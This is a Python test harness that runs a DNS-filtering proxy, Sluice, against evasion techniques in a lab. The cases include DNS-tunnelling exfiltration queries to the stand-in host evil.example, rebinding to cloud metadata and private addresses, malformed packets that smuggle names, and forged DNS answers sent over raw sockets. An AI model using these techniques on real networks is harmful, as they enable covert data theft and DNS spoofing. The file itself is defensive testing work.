#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""
evasions.py control|enforced|settings: the ways round a list of names that lead through DNS (D1–D16), for
dns_evasions.sh. `control` runs without Sluice: what must not arrive does. Allowed is *.ok.example; evil.example is not.
"""

import contextlib
import os
import re
import socket
import struct
import sys
import threading
import time

from labdns import (FORMERR, GOOD4, GOOD6, NEIGHBOUR, NOERROR, NOTIMP, POD, PRIZE4, PRIZE6, SERVFAIL, UPSTREAM,
                    UPSTREAM6, Answer, Seen, ask, check, connected, dns_counts, endpoint, equal, exchange, finish,
                    inside, leases, note, opens, opt, option, packets, prefixed, question, read_message, send_frames,
                    wire_name)

RUN = sys.argv[1]
UNTRUSTED, ATTACKER = "10.0.2.98", "192.0.2.44"
DECOYS = {"nodelocal": ("169.254.20.10", "10.0.0.10"), "podresolver": ("10.0.1.6",), "attacker": (ATTACKER,)}


def marker(case):
    return re.sub(r"[.:]", "", f"{case}-{RUN}".lower())


# ---- queries that must not arrive: case -> (what sends it, what its answer must be, who must not see it) ----

CASES = {}


def is_empty(answer):
    return answer is not None and answer.empty


def has_rcode(*rcodes):
    return lambda answer: answer is not None and answer.rcode in rcodes and not answer.addresses


def case(title, message, wanted=is_empty, where="upstream", **to):
    CASES[title] = (lambda: exchange(message(marker(title)), **to), wanted, where)


def exfiltrating(m):
    return question(".".join((m, "x" * 63, "y" * 63, "z" * 63, "evil.example")))


for proto, tcp in (("udp", False), ("tcp", True)):
    case(f"D1-{proto}", exfiltrating, tcp=tcp)
    case(f"D1-sibling-{proto}", lambda m: question(m + ".notok.example"), tcp=tcp)
    case(f"D1-apex-{proto}", lambda m: question("ok.example", edns=opt(option(65001, m.encode()))), tcp=tcp)
    for kind in ("TXT", "NULL", "ANY", "HTTPS", "SVCB", "MX", "NS", "SOA", "PRIVATE"):
        case(f"D3-{kind}-{proto}", lambda m, k=kind: question(m + ".ok.example", k), tcp=tcp)
    for server in (UPSTREAM6, UNTRUSTED):
        case(f"D6-{server}-{proto}", lambda m: question(m + ".evil.example"), server=server, tcp=tcp)
    for where, servers in DECOYS.items():
        for server in servers:
            title = "D16" if where == "attacker" else "D7"
            case(f"{title}-{server}-{proto}", lambda m: question(m + ".evil.example"), where=where, server=server,
                 tcp=tcp)


# D10. The marker stands where each form leaves room for it.


def malformed(title, make, *rcodes):
    for proto, tcp in (("udp", False), ("tcp", True)):
        wanted = has_rcode(*rcodes) if rcodes else lambda answer: answer is None
        case(f"D10-{title}-{proto}", make, wanted, tcp=tcp, timeout=2.0 if rcodes else 0.3)


def allowed(m):
    return wire_name(m + ".ok.example")


def form(change):
    """change(marker) gives the arguments of packets.query."""
    return lambda m: packets.query(**{"qname": allowed(m), **change(m)})


def raw(**change):
    return form(lambda m: change)


malformed("two-questions", form(lambda m: {"counts": (2, 0, 0, 0),
                                           "tail": wire_name(m + ".evil.example") + b"\0\1\0\1"}), FORMERR)
malformed("no-question", lambda m: struct.pack("!6H", 1, 0x0100, 0, 0, 0, 0) + m.encode(), FORMERR)
malformed("trailing", form(lambda m: {"tail": m.encode()}), FORMERR)
malformed("pointer", form(lambda m: {"qname": wire_name(m)[:-1] + b"\xc0\x0c"}), FORMERR)
malformed("pointer-ahead", form(lambda m: {"qname": wire_name(m)[:-1] + b"\xc0\x40", "tail": allowed(m)}), FORMERR)
malformed("long-name", form(lambda m: {"qname": wire_name(".".join((m, *("x" * 63,) * 4, "ok.example")))}), FORMERR)
malformed("long-label", form(lambda m: {"qname": wire_name(m)[:-1] + b"\x40" + b"x" * 64 + allowed("")}), FORMERR)
malformed("nul", form(lambda m: {"qname": packets.name(m.encode(), b"evil\0", b"ok", b"example")}), FORMERR)
malformed("dot", form(lambda m: {"qname": packets.name(m.encode(), b"evil.ok", b"ok", b"example")}), FORMERR)
malformed("iquery", raw(flags=0x0900), NOTIMP)
malformed("status", raw(flags=0x1100), NOTIMP)
malformed("notify", raw(flags=0x2000), NOTIMP)
malformed("update", raw(flags=0x2800), NOTIMP)
malformed("response", raw(flags=0x8100), FORMERR)
malformed("chaos", lambda m: packets.query(allowed(m))[:-1] + b"\3", NOTIMP)
malformed("any-class", lambda m: packets.query(allowed(m))[:-1] + b"\xff", NOTIMP)
malformed("with-answer", form(lambda m: {"counts": (1, 1, 0, 0), "tail": b"\0\0\x10\0\1" + bytes(6)}), FORMERR)
malformed("two-opt", form(lambda m: {"counts": (1, 0, 0, 2), "tail": opt() * 2}), FORMERR)
malformed("opt-length", form(lambda m: {"counts": (1, 0, 0, 1), "tail": opt(b"\0\1\0\7")}), FORMERR)
malformed("opt-owner", form(lambda m: {"counts": (1, 0, 0, 1), "tail": b"\1x" + opt()}), FORMERR)
malformed("not-opt", form(lambda m: {"counts": (1, 0, 0, 1), "tail": opt().replace(b"\0\x29", b"\0\xfa", 1)}), FORMERR)
malformed("cut", lambda m: packets.query(allowed(m))[:-2], FORMERR)
malformed("header", lambda m: m.encode()[-11:])  # shorter than a header: no id to answer under
case("D10-edns1", lambda m: question(m + ".ok.example", edns=opt(version=1)),
     lambda a: a is not None and not a.addresses and a.of("OPT", 2)[0][3] >> 24 == 1)


def d9_pipelined(m):
    with connected(UPSTREAM, 53) as sock:
        sock.sendall(prefixed(question(f"plain-{m}.ok.example")) + prefixed(question(m + ".evil.example")))
        answers = [Answer(read_message(sock)) for _ in range(2)]
    return next((a for a in answers if not a.addresses), None)


CASES["D9-pipelined"] = (lambda: d9_pipelined(marker("D9-pipelined")), is_empty, "upstream")


def d8():
    """One packet to each of the other protocols' ports, in the internet."""
    for port in (853, 784, 5353, 5355, 137, 443):
        connected(PRIZE4, port, kind=socket.SOCK_DGRAM).send(b"SLUICE-" + marker("D8").encode())
    for port in (853, 443):
        opens("8.8.8.8", port)


def control():
    seen = {where: Seen(where) for where in ("upstream", *DECOYS)}
    for send, _, _ in CASES.values():
        with contextlib.suppress(IndexError, struct.error):  # a malformed query's answer
            send()
    d8()
    time.sleep(0.3)
    missing = [title for title, (_, _, where) in CASES.items() if not seen[where].count(text_of(title), 0)]
    equal(f"control: without Sluice each of {len(CASES)} queries arrives; not so", [], missing)
    equal("control: the attacker's resolver lies", [PRIZE4], ask("plain-control.ok.example", server=ATTACKER).addresses)
    check("control: what it names is there", opens(PRIZE4))


def text_of(title):
    """What of a case can be looked for: its marker, or as much as the form leaves."""
    return marker(title)[-11:] if "-header-" in title else "" if title.startswith("D10-any-class") else marker(title)


def nothing_arrives():
    seen = {where: Seen(where) for where in ("upstream", *DECOYS)}
    for title, (send, wanted, _) in CASES.items():
        answer = send()
        check(f"{title}: answered on the spot", wanted(answer), answer and (answer.rcode, answer.records))
    time.sleep(0.3)
    rows = [(where, row["raw"]) for where, log in seen.items() for row in log.rows()]
    equal(f"of {len(CASES)} queries, packets at all resolvers but for one that is allowed", [],
          [row for row in rows if b"D9-pipelined".lower() not in row[1].lower()])
    equal("D9-pipelined: the allowed query of the two", 1, len(rows))
    d8()


# ---- with Sluice ----


def d2(seen):
    """Distinct labels under an allowed wildcard. Returns how many of 200 arrive."""
    names = [os.urandom(15).hex() + ".ok.example" for _ in range(200)]
    for name in names:
        ask(name, timeout=0.5)
    arrived = len({row["raw"][13:43].decode("latin-1") + ".ok.example" for row in seen.rows()} & set(names))
    note(f"D2: {arrived} of 200 distinct labels under an allowed wildcard reach the resolver")
    return arrived


def canonical(name, kind, ident, do=False):
    return packets.query(wire_name(name), kind, ident, counts=(1, 0, 0, 1), tail=opt(do=do))


def as_made_by_us(row, name, kind=1, do=False):
    return row["raw"] == canonical(name, kind, struct.unpack("!H", row["raw"][:2])[0], do)


def d4(seen):
    """Whatever a query carries besides name, type and DO, the resolver gets the same bytes."""
    riders = {"ecs": option(8, b"\0\1\x18\0\1\2\3"), "cookie": option(10, b"SLUICE-D"), "nsid": option(3, b"x" * 30),
              "padding": option(12, b"y" * 300), "local": option(65001, b"z" * 400), "keepalive": option(11, b""),
              "several": option(65001, b"a" * 100) * 4, "none": b""}
    for title, data in riders.items():
        for do in (False, True):
            name = f"plain-d4{title}{int(do)}.ok.example"
            answer = ask(name, edns=opt(data, size=4096, do=do))
            rows = seen.rows(name.split(".", maxsplit=1)[0])
            check(f"D4-{title}{'-do' if do else ''}: the resolver gets name, type and DO alone",
                  len(rows) == 1 and as_made_by_us(rows[0], name, do=do), rows)
            check(f"D4-{title}{'-do' if do else ''}: nothing of it comes back", answer is not None and
                  answer.addresses == [GOOD4] and [r[4] for r in answer.of("OPT", 2)] == [b""])
    for bit in (0x0010, 0x0020, 0x0040, 0x0200, 0x0400, 0x0080, 0x000F):
        name = f"plain-d4bit{bit:04x}.ok.example"
        exchange(question(name, flags=0x0100 | bit))
        rows = seen.rows(name.split(".", maxsplit=1)[0])
        check(f"D4: header bit {bit:04x} stays here", len(rows) == 1 and as_made_by_us(rows[0], name), rows)


def d5(seen):
    name = "pLaIn-D5cAsE.oK.eXaMpLe"
    seen.mark()
    sock = connected(UPSTREAM, 53, kind=socket.SOCK_DGRAM)
    own_port, same, good = sock.getsockname()[1], 0, 0
    for number in range(64):
        sock.send(question(name, ident=number * 257))
        answer = Answer(sock.recv(4096))
        same += answer.question == question(name)[12:] and answer.ident == number * 257
        good += answer.addresses == [GOOD4]
    rows = seen.rows("d5case")
    equal("D5: the pod gets its own id and case back", (64, 64), (same, good))
    equal("D5: the resolver sees lower case", 64, sum(as_made_by_us(row, name.lower()) for row in rows))
    idents = [struct.unpack("!H", row["raw"][:2])[0] for row in rows]
    check("D5: ids are not the pod's", len(set(idents)) > 58 and
          sum(a == b * 257 for b, a in enumerate(idents)) < 4, idents)
    ports = {row["port"] for row in rows}
    check(f"D5: ports are not the pod's ({len(ports)} used)", len(ports) >= 8 and own_port not in ports, ports)
    equal("D5: the asker is the node", {"10.0.2.1"}, {row["from"] for row in rows})


def d6_d7_d16(seen):
    """An allowed name: answered from the address asked, by the trusted resolver."""
    servers = [UPSTREAM, UPSTREAM6, UNTRUSTED, "8.8.8.8", "2001:4860:4860::8888", "198.51.100.99",
               *(a for addresses in DECOYS.values() for a in addresses)]
    for number, server in enumerate(servers):
        for tcp in (False, True):
            mark = f"plain-d6n{number}{'t' if tcp else 'u'}"
            answer = ask(mark + ".ok.example", server=server, tcp=tcp)
            check(f"D6/D7/D16: {server} {'tcp' if tcp else 'udp'}: the trusted answer", answer is not None and
                  answer.addresses == [GOOD4] and len(seen.rows(mark)) == 1, answer and answer.addresses)
    check("D16: what the attacker's resolver would have named stays closed", not opens(PRIZE4))


def d9(seen):
    whole = prefixed(question("plain-d9slow.ok.example")) + prefixed(question("d9slow.evil.example"))
    with connected(UPSTREAM, 53) as sock:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for byte in whole:
            sock.send(bytes((byte,)))
            time.sleep(0.002)
        answers = [Answer(read_message(sock)) for _ in range(2)]
    equal("D9: byte by byte, each message judged", [[], [GOOD4]], sorted(a.addresses for a in answers))
    equal("D9: byte by byte, what arrives", (1, 0), (len(seen.rows("plain-d9slow")), seen.count(b"\6d9slow\4evil")))
    with connected(UPSTREAM, 53) as sock:
        many = [question(f"plain-d9many{i}.ok.example" if i % 2 else f"d9many{i}.evil.example", ident=i)
                for i in range(40)]
        sock.sendall(b"".join(map(prefixed, many)))
        answers = {a.ident: a.addresses for a in (Answer(read_message(sock)) for _ in many)}
    equal("D9: 40 pipelined, each judged on its own", {i: [GOOD4] if i % 2 else [] for i in range(40)}, answers)
    equal("D9: 40 pipelined, what arrives", (20, 0), (len(seen.rows("plain-d9many")), seen.count(b"\4evil")))
    for title, data in (("longer than any query", b"\xff\xff" + b"x" * 4096), ("of no length", b"\0\0" * 8)):
        with connected(UPSTREAM, 53, timeout=3) as sock:
            sock.sendall(data)
            check(f"D9: a message {title} ends the connection", closed_after(sock) is not None)


def closed_after(sock):
    """Seconds until the other side closed; None: it did not before the time-out."""
    start = time.monotonic()
    try:
        while sock.recv(4096):
            pass
    except TimeoutError:
        return None
    except OSError:
        pass
    return time.monotonic() - start


class HalfOpen(threading.Thread):
    """A connection on which no message is ever whole, held for as long as the proxy lets it be."""

    def __init__(self, title, first, trickle):
        super().__init__(daemon=True)
        self.title, self.trickle, self.seconds = title, trickle, None
        self.sock = connected(UPSTREAM, 53)
        self.sock.settimeout(20)
        self.sock.sendall(first)

    def run(self):
        if self.trickle:
            threading.Thread(target=self.feed, daemon=True).start()
        self.seconds = closed_after(self.sock)

    def feed(self):
        try:
            for byte in question("plain-d9half.ok.example" + "x" * 20)[:30]:
                self.sock.send(bytes((byte,)))
                time.sleep(1)
        except OSError:
            pass

    def verdict(self):
        self.join()
        check(f"D9: {self.title}: closed by a timer", self.seconds is not None and 2 < self.seconds < 15, self.seconds)


def half_open():
    message = prefixed(question("plain-d9half.ok.example"))
    threads = [HalfOpen("nothing sent", b"", False), HalfOpen("half a prefix", b"\0", False),
               HalfOpen("less than the prefix says", b"\2\0" + message[2:], False),
               HalfOpen("a byte a second", b"\0\x30", True)]
    for thread in threads:
        thread.start()
    return threads


def closed_prize(title):
    check(f"{title}: nothing learned of it", not leases(PRIZE4) and not leases(PRIZE6) and not opens(PRIZE4), leases())


def d11():
    for kind, good in (("A", GOOD4), ("AAAA", GOOD6)):
        for title, wanted in (("foreign", [good]), ("alone", []), ("glue", [good])):
            answer = ask(f"{title}-d11.ok.example", kind)
            equal(f"D11-{title} {kind}: only what the question's name owns", wanted, answer and answer.addresses)
            others = [r for r in answer.records if r[2] in (1, 2, 28) and r[1].lower() != f"{title}-d11.ok.example"]
            equal(f"D11-{title} {kind}: records of others, and glue", [], others)
    equal("D3: HTTPS records beside an address are not passed on", ([GOOD4], []),
          (lambda a: (a.addresses, a.of("HTTPS") + a.of("HTTPS", 2)))(ask("hints-d3.ok.example")))
    closed_prize("D11, D3")


def d12():
    for title, wanted in (("chain1", [GOOD4]), ("chain8", [GOOD4]), ("chain9", SERVFAIL), ("chain20", SERVFAIL),
                          ("loop", SERVFAIL), ("itself", SERVFAIL), ("dname", [GOOD4]), ("dnamebare", []),
                          ("cname", [GOOD4])):
        answer = ask(title + "-d12.ok.example", tcp=True)
        got = answer and (answer.addresses if answer.rcode == NOERROR else answer.rcode)
        equal(f"D12-{title}: {'refused whole' if wanted == SERVFAIL else 'the chain from the question'}", wanted, got)
    check("D12: the end of an allowed chain may not be asked for itself", is_empty(ask("www.denied.example")))
    closed_prize("D12")


REFUSED = {
    "IMDS": "169.254.169.254", "link-local": "169.254.1.1", "loopback": "127.0.0.1", "this-network": "0.0.0.0",
    "multicast": "224.0.0.1", "reserved": "240.0.0.1", "broadcast": "255.255.255.255", "node": "10.0.0.10",
    "node-dns0": "10.0.2.1", "pod": "10.0.1.6", "own": "10.0.1.5", "IMDS-6": "fd00:ec2::254",
    "pod-identity-6": "fd00:ec2::23", "node-6": "fd00:10::10", "pod-6": "fd00::6", "loopback-6": "::1", "any-6": "::",
    "link-local-6": "fe80::1", "multicast-6": "ff02::1", "compatible": "::6.6.6.6",
    "azure": "168.63.129.16", "alibaba": "100.100.100.200", "alibaba-6": "fd00:100::100:200", "oracle": "192.0.0.192",
    "oracle-6": "fd00:c1::a9fe:a9fe", "google-6": "fd20:ce::254", "scaleway-6": "fd00:42::42",
    "akamai-6": "fd00:a9fe:a9fe::1", "mapped-IMDS": "::ffff:169.254.169.254",
    "mapped-loopback": "::ffff:127.0.0.1", "nat64-IMDS": "64:ff9b::a9fe:a9fe", "nat64-local": "64:ff9b:1::6.6.6.6",
    "nat64-node": "64:ff9b::10.0.0.10", "6to4-IMDS": "2002:a9fe:a9fe::", "6to4-node": "2002:a00:a::1",
    "translated-IMDS": "::ffff:0:169.254.169.254", "translated-node": "::ffff:0:10.0.0.10",
    "teredo": "2001:0:606:606:0:0:f9f9:f9f9", "teredo-IMDS": "2001::5601:5601",
}
PRIVATE = {"10/8": "10.9.9.9", "172.16/12": "172.20.0.10", "192.168/16": "192.168.1.1", "100.64/10": "100.64.0.1",
           "198.18/15": "198.18.0.1", "ULA": "fd12::1", "mapped-10/8": "::ffff:10.0.0.1",
           "nat64-10/8": "64:ff9b::10.9.9.9"}


def rebinding(classes, title):
    """Alone and between good ones. The good ones also show that the way is open."""
    wrong = []
    for name, address in classes.items():
        kind, good = ("AAAA", GOOD6) if ":" in address else ("A", GOOD4)
        data = packets.packed(address).hex()
        alone, between = ask(f"addr-{data}.ok.example", kind), ask(f"mixed-{data}.ok.example", kind)
        if not is_empty(alone) or between is None or between.addresses != [good, good] or leases(address):
            wrong.append((name, alone and alone.records, between and between.addresses, leases(address)))
    equal(f"{title}: stripped and not learned, each of {len(classes)} classes; not so", [], wrong)


def d14():
    answer = ask("many200-d14.ok.example", edns=opt(size=65535))
    check("D14: 200 addresses by UDP are truncated, and teach nothing", answer is not None and answer.truncated and
          not answer.addresses and not leases("203.0.113.11"), answer and answer.addresses)
    answer = ask("many200-d14.ok.example", tcp=True)
    count, held = len(answer.addresses), [r for r in leases() if r["name"] == "many200-d14.ok.example"]
    check(f"D14: of 200 addresses {count} are answered, {len(held)} leased", count == len(held) == 64)
    for title, low, high in (("ttl0-c0000201", 3, 6), ("ttl2147483648-c0000202", 3, 6),
                             ("ttl4294967295-c0000203", 3, 6), ("ttl2147483647-c0000204", 3500, 3606)):
        answer = ask(title + ".ok.example")
        left = [r["expires_in_seconds"] for r in leases() if r["name"] == title + ".ok.example"]
        check(f"D14-{title}: leased for {left} seconds", len(answer.addresses) == 1 and len(left) == 1 and
              low <= left[0] <= high)


# D15


def forged(row):
    """The right answer to a query under way, but for the address."""
    ident, body = row["raw"][:2], row["raw"][12:row["raw"].index(b"\0\0\x01\0\1") + 5]
    return ident + struct.pack("!5H", 0x8180, 1, 1, 0, 0) + body + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + \
        socket.inet_aton(PRIZE4)


def under_attack(seen, mark, attack):
    """Asks for a name whose answer takes 1.2 s, lets `attack` have the proxy's port and id meanwhile; the answer."""
    sock = connected(UPSTREAM, 53, kind=socket.SOCK_DGRAM, timeout=4)
    sock.send(question(f"late1200-{mark}.ok.example", ident=0x7777))
    attack(seen.wait(mark), sock.getsockname()[1])
    return Answer(sock.recv(4096)).addresses


def d15(seen):
    def spoof(pod):
        def attack(row, _):
            data = packets.udp(UPSTREAM, row["from"], 53, row["port"], forged(row))
            send_frames([packets.ip4(UPSTREAM, row["from"], packets.UDP, data)] * 3, pod)
        return attack

    def openly(pod):
        def attack(row, _):
            with inside(pod):
                sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.bind(("", 53053))
            sock.sendto(forged(row), (row["from"], row["port"]))
            own = sock.getsockname()[0]
            address = {POD: "10.0.1.5", NEIGHBOUR: "10.0.1.6"}[pod]
            data = packets.udp(address, row["from"], 53, row["port"], forged(row))
            send_frames([packets.ip4(address, row["from"], packets.UDP, data)], pod)
            sock.close()
            return own
        return attack

    def at_the_pod(row, port):
        data = packets.udp(UPSTREAM, "10.0.1.5", 53, port, b"\x77\x77" + forged(row)[2:])
        send_frames([packets.ip4(UPSTREAM, "10.0.1.5", packets.UDP, data)] * 3, NEIGHBOUR)

    def by_the_resolver(row, _):
        with inside("dns"):
            sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        data = packets.udp(UPSTREAM, row["from"], 53, row["port"], forged(row))
        sock.sendto(packets.ip4(UPSTREAM, row["from"], packets.UDP, data), (row["from"], 0))
        sock.close()

    def drops(path):
        return endpoint(path)["drops"].get("INVALID_SOURCE_IP", 0)

    before = drops("agent-sandboxes/sandbox-agent"), drops("default/neighbour")
    for title, attack in (("podspoof", spoof(POD)), ("siblingspoof", spoof(NEIGHBOUR)), ("podopen", openly(POD)),
                          ("siblingopen", openly(NEIGHBOUR)), ("siblingtopod", at_the_pod)):
        equal(f"D15-{title}: a forged answer with the right id and port is not believed", [GOOD4],
              under_attack(seen, "d15" + title, attack))
    after = drops("agent-sandboxes/sandbox-agent"), drops("default/neighbour")
    check("D15: dropped as INVALID_SOURCE_IP", after[0] - before[0] == 3 and after[1] - before[1] == 6, (before, after))
    closed_prize("D15")
    wrong = dns_counts()["upstream_wrong"]
    for title in ("wrongid", "wrongname", "wrongtype", "notanswer", "wrongport", "wrongaddress"):
        answer = ask(title + "-d15.ok.example")
        equal(f"D15-{title}: waited past", [GOOD4], answer and answer.addresses)
    check("D15: and counted, where our socket gets it at all", dns_counts()["upstream_wrong"] - wrong == 4, wrong)
    closed_prize("D15")
    equal("D15 control: the same forgery from the resolver's own address is believed", [PRIZE4],
          under_attack(seen, "d15control", by_the_resolver))


def bad_answers():
    for title in ("cut", "count", "self", "forward", "rdlen", "label", "long", "short4", "header"):
        answer = ask(f"bad-{title}.ok.example", timeout=8)
        check(f"a malformed answer ({title}) opens nothing, and is not passed on", answer is not None and
              not answer.addresses and (answer.rcode == SERVFAIL or title == "short4"), answer and answer.rcode)
    closed_prize("malformed answers")


def enforced():
    seen = Seen()
    slow = half_open()
    nothing_arrives()
    for part in (d4, d5, d6_d7_d16, d9):
        part(seen)
    for part in (d11, d12, d14, bad_answers):
        part()
    rebinding(REFUSED, "D13")
    d15(seen)
    check("D11–D15 control: what was to stay closed is there, once a name opens it", opens(PRIZE4))
    for thread in slow:
        thread.verdict()
    equal("D9: of half messages, packets at the resolver", 0, seen.count("d9half"))
    check("D2 control: without a budget they do", d2(seen) > 180)


def settings():
    """With denyPrivateAnswers, HTTPS among the query types, and 120 new names a minute."""
    rebinding({**REFUSED, **PRIVATE}, "D13 with denyPrivateAnswers")
    answer = ask("hints-d3.ok.example", "HTTPS")
    check("D3: HTTPS where it may be asked", answer is not None and len(answer.of("HTTPS")) == 1)
    closed_prize("D3: hints")
    limited = dns_counts()["new_names_limited"]
    arrived = d2(Seen())
    check("D2: a budget of 120 new names a minute stops the rest", arrived <= 140, arrived)
    check("D2: and counts them", dns_counts()["new_names_limited"] - limited >= 200 - arrived - 2)
    check("D2: the pod's known names go on", ask("hints-d3.ok.example", "HTTPS").of("HTTPS"))
    answers = [ask(f"plain-d2{i}.ok.example", edns=opt()) for i in range(8)]
    check("D2: new ones are refused, and it says why", any("newNamesPerMinute" in (a.blocked or "") for a in answers))


{"control": control, "enforced": enforced, "settings": settings}[RUN]()
finish()
